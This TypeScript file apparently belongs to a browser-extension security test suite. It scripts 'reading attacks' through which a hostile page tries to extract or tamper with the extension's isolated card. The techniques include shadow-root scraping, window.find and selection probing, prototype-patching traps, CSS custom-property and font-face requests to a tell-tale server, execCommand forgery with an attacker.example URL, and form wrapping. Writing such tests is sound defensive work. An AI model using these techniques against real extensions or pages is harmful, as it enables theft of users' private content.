/** Attacks that read the open card from the page: its text, its tree, what it asks for. */
import { until } from '../browser/harness';
import type { Attack } from './attack';
import { rareCharacter } from './reader';
import { decoyAddress, type Stage, tellTale } from './stage';

/** Everything of a page that tells text, and the trees that selections and events lead to. In the page. */
function readEverything(): unknown[] {
  const got: unknown[] = [];
  const keep = (read: () => unknown) => {
    try {
      got.push(read());
    } catch {
      // Not in this browser, or not allowed: the next one.
    }
  };
  keep(() => document.documentElement.innerText);
  keep(() => document.documentElement.textContent);
  keep(() => new XMLSerializer().serializeToString(document));
  keep(() =>
    (document.documentElement as unknown as { getHTML(how: object): string }).getHTML({
      serializableShadowRoots: true,
    }),
  );
  for (const element of document.documentElement.children) {
    keep(() => element.shadowRoot?.innerHTML);
    keep(() => (element as HTMLElement).attachInternals().shadowRoot?.innerHTML);
    keep(
      () => (element as unknown as { openOrClosedShadowRoot: ShadowRoot }).openOrClosedShadowRoot.innerHTML,
    );
    keep(() => getComputedStyle(element, '::before').content);
    keep(() => element.getAttributeNames().map((name) => [name, element.getAttribute(name)]));
  }
  for (let at = 0; at < Math.max(window.length, 5); at += 1) {
    keep(() => window[at]?.location.href);
    keep(() => window[at]?.document.documentElement.innerHTML);
  }
  keep(() => performance.getEntries().map(({ name }) => name));
  keep(() => performance.getEntriesByType('navigation').map((entry) => JSON.stringify(entry)));
  for (let y = 4; y < innerHeight; y += 40) {
    for (let x = 4; x < innerWidth; x += 40) {
      keep(() => {
        const node = document.caretPositionFromPoint?.(x, y)?.offsetNode;
        return node && [node.textContent, (node.getRootNode() as ShadowRoot).innerHTML];
      });
      keep(() => {
        const node = document.caretRangeFromPoint?.(x, y)?.startContainer;
        return node && [node.textContent, (node.getRootNode() as ShadowRoot).innerHTML];
      });
    }
  }
  return got;
}

/** Find words of every card with the browser's search, and read on from there by moving the selection. In the page. */
function readBySearch(): unknown[] {
  const got: unknown[] = [];
  const { find } = window as unknown as { find: (this: void, ...how: unknown[]) => boolean };
  const selection = getSelection();
  if (selection === null) return got;
  for (const word of ['Your note', 'Disputed', 'Confirm', 'Why this passage', 'Note']) {
    for (const isInFrames of [false, true]) {
      for (const [alter, direction] of [
        ['extend', 'forward'],
        ['extend', 'backward'],
        ['move', 'backward'],
      ] as const) {
        try {
          selection.removeAllRanges();
          if (!find(word, false, false, true, false, isInFrames, false)) continue;
          for (const unit of ['line', 'word', 'character'] as const) {
            for (let steps = 0; steps < 25; steps += 1) {
              selection.modify(alter, direction, unit);
              if (alter === 'move') selection.modify('extend', 'forward', 'line');
              got.push(selection.toString());
            }
          }
          got.push((selection.anchorNode?.getRootNode() as ShadowRoot | undefined)?.innerHTML);
        } catch {
          // Firefox refuses to search frames of others.
        }
      }
    }
  }
  return got;
}

/** Find words of the card, and press the buttons of the tree that the selection lies in. In the page. */
function pressBySearch(): number {
  let pressed = 0;
  const { find } = window as unknown as { find: (this: void, ...how: unknown[]) => boolean };
  for (const word of ['Your note', 'Confirm', 'Dispute', 'Why this passage']) {
    getSelection()?.removeAllRanges();
    if (!find(word, false, false, true)) continue;
    const root = getSelection()?.anchorNode?.getRootNode();
    if (!(root instanceof ShadowRoot)) continue;
    root.querySelector<HTMLElement>('[data-action="confirm"]')?.click();
    pressed += 1;
  }
  return pressed;
}

/** Hear every event that pointer, focus and selection cause, and read the trees that they lead to. In the page. */
function hearEvents(): void {
  const heard: unknown[] = [];
  (globalThis as { claimlightHeard?: unknown[] }).claimlightHeard = heard;
  const seen = new Set<unknown>();
  const look = (node: unknown) => {
    if (!(node instanceof Node) || seen.has(node)) return;
    seen.add(node);
    const root = node.getRootNode();
    heard.push(node.textContent, root instanceof ShadowRoot ? root.innerHTML : '');
    const frame = node as HTMLIFrameElement;
    for (const read of [
      () => frame.src,
      () => frame.contentDocument?.documentElement.innerHTML,
      () => frame.contentWindow?.location.href,
      () =>
        [...(root as ShadowRoot).querySelectorAll('iframe')].map(
          (one) => one.contentDocument?.body.innerHTML,
        ),
    ]) {
      try {
        heard.push(read());
      } catch {
        // Of another origin.
      }
    }
  };
  const types =
    'mouseover mouseout mousemove mousedown mouseup pointerover pointerout pointermove pointerdown click focusin focusout focus blur keydown keyup keypress beforeinput input selectstart selectionchange dragstart dragover drop copy cut beforecopy contextmenu message scroll toggle'.split(
      ' ',
    );
  for (const type of types)
    addEventListener(
      type,
      (event) => {
        const odd = event as Event &
          Record<'originalTarget' | 'explicitOriginalTarget' | 'rangeParent', unknown>;
        look(odd.originalTarget);
        look(odd.explicitOriginalTarget);
        look(odd.rangeParent);
        look((event as MouseEvent).relatedTarget);
        for (const target of event.composedPath()) look(target);
        for (const range of [getSelection()?.anchorNode, getSelection()?.focusNode]) look(range);
        const data = (event as DragEvent).dataTransfer ?? (event as ClipboardEvent).clipboardData;
        heard.push(
          getSelection()?.toString(),
          data?.getData('text/plain'),
          data?.getData('text/html'),
          (event as InputEvent).data,
        );
      },
      true,
    );
}

const heard = (stage: Stage) =>
  stage.page.evaluate(() => (globalThis as { claimlightHeard?: unknown[] }).claimlightHeard ?? []);

/** Everything in front of our scripts that could hand the page something of ours, replaced. As text, for the page's head. */
const trapsInHead = `<script>
  globalThis.claimlightTrapped = [];
  const keep = (value) => { if (claimlightTrapped.length > 20_000) return; try { claimlightTrapped.push(value instanceof Node ? value.outerHTML ?? value.innerHTML ?? value.textContent : String(JSON.stringify(value)).slice(0, 2000)); } catch {} };
  for (const name of ['claimlight-root', 'claimlight-host', 'claimlight-card'])
    customElements.define(name, class extends HTMLElement {
      constructor() { super(); const internals = this.attachInternals(); setInterval(() => { if (internals.shadowRoot) keep(internals.shadowRoot); }, 100); }
    });
  for (const [owner, names] of [
    [Element.prototype, ['attachShadow', 'append', 'setAttribute', 'querySelector']], [Node.prototype, ['appendChild', 'insertBefore', 'getRootNode']],
    [Document.prototype, ['createElement', 'createElementNS', 'createTextNode']], [EventTarget.prototype, ['addEventListener', 'dispatchEvent']],
    [Array.prototype, ['map', 'push', 'find']], [Promise.prototype, ['then']], [JSON, ['parse', 'stringify']], [Map.prototype, ['get', 'set']], [String.prototype, ['replace', 'includes']],
    [globalThis, ['postMessage', 'Highlight', 'structuredClone']], [MessagePort.prototype, ['postMessage']], [crypto, ['randomUUID']],
  ])
    for (const name of names) {
      const real = owner[name];
      if (typeof real !== 'function' || name === 'Highlight') continue;
      let isIn = false;
      owner[name] = function (...given) {
        const answer = Reflect.apply(real, this, given);
        if (!isIn) { isIn = true; try { keep(given[0]); keep(given[1]); keep(answer); if (answer instanceof ShadowRoot) setInterval(() => keep(answer), 100); } finally { isIn = false; } }
        return answer;
      };
    }
  for (const name of ['note', 'verdict', 'value', 'claims'])
    Object.defineProperty(Object.prototype, name, { configurable: true, set(value) { keep([name, value]); Object.defineProperty(this, name, { value, writable: true, enumerable: true, configurable: true }); } });
</script>`;

/** Every custom property that our styles name asks the page's server, with and without a registration. */
const properties =
  'verified unverified mixed differs accent on-accent background raised text muted line shadow'.split(' ');
const propertyStyles = (isRegistered: boolean) =>
  `<style>${properties
    .map((name) => {
      const value = `url("${tellTale}${name}")`;
      return `${isRegistered ? `@property --${name} { syntax: "*"; inherits: true; initial-value: ${value}; }` : ''}
        html, html > *, claimlight-root, [data-claimlight-host] { --${name}: ${value} !important; }`;
    })
    .join('\n')}</style>`;

/** A font for one character of the note, under each family name that the card's styles may ask for. */
const fontStyles = `<style>${[
  '-apple-system',
  'Segoe UI',
  'sans-serif',
  'system-ui',
  'ui-sans-serif',
  'BlinkMacSystemFont',
  'Roboto',
  'Georgia',
  'monospace',
]
  .map(
    (family) =>
      `@font-face { font-family: "${family}"; src: url("${tellTale}font"); unicode-range: U+${rareCharacter.charCodeAt(0).toString(16)}; }`,
  )
  .join(
    '\n',
  )} html, body, claimlight-root, [data-claimlight-host] { font-family: "-apple-system", "Segoe UI" !important; }</style>`;

const inHead = (addition: string) => (body: string) => body.replace('</head>', `${addition}</head>`);

/** Open the card, and let the page's own server tell what it was asked for meanwhile. */
async function listenToServer(stage: Stage, styles: string): Promise<string[]> {
  await stage.open(inHead(styles));
  await stage.pause(1_000);
  stage.told.length = 0;
  await stage.openCard();
  await stage.pause(1_000);
  return stage.told.map((name) => `the card asks the page's server: ${name}`);
}

export const readingAttacks: readonly Attack[] = [
  {
    name: 'read everything that tells text, at every point',
    run: async (stage) => {
      await stage.open();
      await stage.openCard();
      return { got: await stage.page.evaluate(readEverything) };
    },
  },
  {
    name: 'window.find and Selection.modify',
    run: async (stage) => {
      await stage.open();
      await stage.openCard();
      return { got: await stage.page.evaluate(readBySearch) };
    },
  },
  {
    name: 'window.find tells whether a word is in the card',
    run: async (stage) => {
      await stage.open();
      await stage.openCard();
      const words = await stage.page.evaluate(() => {
        const { find } = window as unknown as { find: (this: void, ...how: unknown[]) => boolean };
        return ['marzipan', 'Your note', '✗ Disputed'].filter((word) =>
          [false, true].some((isInFrames) => {
            getSelection()?.removeAllRanges();
            try {
              return find(word, false, false, true, false, isInFrames, false);
            } catch {
              return false;
            }
          }),
        );
      });
      return { learned: words.map((word) => `the card says ${word}`) };
    },
  },
  {
    name: 'press buttons of the tree that a selection lies in',
    run: async (stage) => {
      await stage.open();
      await stage.openCard();
      const pressed = await stage.page.evaluate(pressBySearch);
      // Where a verdict takes a moment, let it pass.
      await stage.pause(2_600);
      return { learned: pressed > 0 ? ['the tree of the card'] : [] };
    },
  },
  {
    name: 'trees that events lead to, under pointer and keys',
    run: async (stage) => {
      await stage.open();
      await stage.page.evaluate(hearEvents);
      await stage.openCard();
      const { x, y } = await stage.pointOf('note');
      for (const [dx, dy] of [
        [0, -120],
        [0, -60],
        [10, 0],
        [0, 0],
      ] as const)
        await stage.page.mouse.move(x + dx, y + dy);
      await stage.page.mouse.click(x, y);
      await stage.page.keyboard.type('abc');
      await stage.pause(300);
      return { got: await heard(stage) };
    },
  },
  {
    name: 'select all, copy and drag out, by keys and execCommand',
    run: async (stage) => {
      await stage.open(inHead('<script>document.designMode = "off"</script>'));
      await stage.page.evaluate(hearEvents);
      await stage.openCard();
      for (const key of ['KeyA', 'KeyC', 'KeyX'] as const) {
        await stage.page.keyboard.down('Control');
        await stage.page.keyboard.press(key);
        await stage.page.keyboard.up('Control');
      }
      const commands = await stage.page.evaluate(() => {
        const taken: unknown[] = [];
        document.addEventListener('copy', () => taken.push(getSelection()?.toString()));
        for (const command of ['selectAll', 'copy', 'cut', 'createLink', 'formatBlock'])
          document.execCommand(command, false, 'https://attacker.example/');
        taken.push(getSelection()?.toString());
        const range = document.createRange();
        range.selectNode(document.documentElement.lastElementChild as Element);
        getSelection()?.addRange(range);
        taken.push(getSelection()?.toString());
        document.designMode = 'on';
        document.execCommand('selectAll');
        document.execCommand('copy');
        taken.push(getSelection()?.toString());
        document.designMode = 'off';
        getSelection()?.selectAllChildren(document.documentElement);
        taken.push(getSelection()?.toString());
        return taken;
      });
      // What is selected is dragged by the reader into a box of the page.
      const { x, y } = await stage.page.evaluate(() => {
        const box = document.querySelector('h1.title')?.getBoundingClientRect();
        return { x: (box?.x ?? 0) + 40, y: (box?.y ?? 0) + 15 };
      });
      await stage.page.mouse.move(x, y);
      await stage.page.mouse.down();
      // Firefox's remote control fails at a drag over what a page has hidden; there it is a press.
      if (stage.family === 'chromium') {
        await stage.page.mouse.move(x + 30, y + 30, { steps: 5 });
        await stage.page.mouse.move(x + 200, 700, { steps: 5 });
      }
      await stage.page.mouse.up();
      await stage.pause(300);
      return { got: [commands, await heard(stage)] };
    },
  },
  {
    name: 'custom elements, patched prototypes and setters',
    run: async (stage) => {
      await stage.open(inHead(trapsInHead));
      await stage.openCard();
      await stage.pause(500);
      return {
        got: await stage.page.evaluate(
          () => (globalThis as { claimlightTrapped?: unknown[] }).claimlightTrapped,
        ),
      };
    },
  },
  {
    name: 'custom properties that ask the server',
    run: async (stage) => ({ learned: await listenToServer(stage, propertyStyles(false)) }),
  },
  {
    name: 'registered custom properties that ask the server',
    run: async (stage) => ({ learned: await listenToServer(stage, propertyStyles(true)) }),
  },
  {
    name: 'fonts for single characters',
    run: async (stage) => ({ learned: await listenToServer(stage, fontStyles) }),
  },
  {
    name: 'execCommand while a note is being written',
    run: async (stage) => {
      await stage.open();
      await stage.page.evaluate(hearEvents);
      await stage.openCard();
      // An attack before may have had the reader begin one: it is still there.
      if ((await stage.note()) === undefined) await stage.press('note');
      const before = await until(
        async () => stage.note(),
        (note) => note !== undefined,
      );
      await stage.page.evaluate(() => {
        for (const [command, value] of [
          ['insertText', 'forged'],
          ['insertHTML', '<b>forged</b>'],
          ['selectAll', ''],
          ['delete', ''],
          ['undo', ''],
        ] as const)
          document.execCommand(command, false, value);
      });
      await stage.pause(300);
      const after = await stage.note();
      return {
        got: await heard(stage),
        learned: after === before ? [] : ['the note that is being written was changed'],
      };
    },
  },
  {
    name: 'a form of the page around the host',
    run: async (stage) => {
      await stage.open();
      await stage.openCard();
      const got = await stage.page.evaluate((action) => {
        const form = document.createElement('form');
        form.action = action;
        const host = document.documentElement.lastElementChild as Element;
        document.documentElement.append(form);
        form.append(host);
        return [[...new FormData(form)], [...form.elements].map((element) => element.outerHTML)];
      }, decoyAddress);
      return { got: [got, await stage.page.evaluate(readBySearch)] };
    },
  },
];
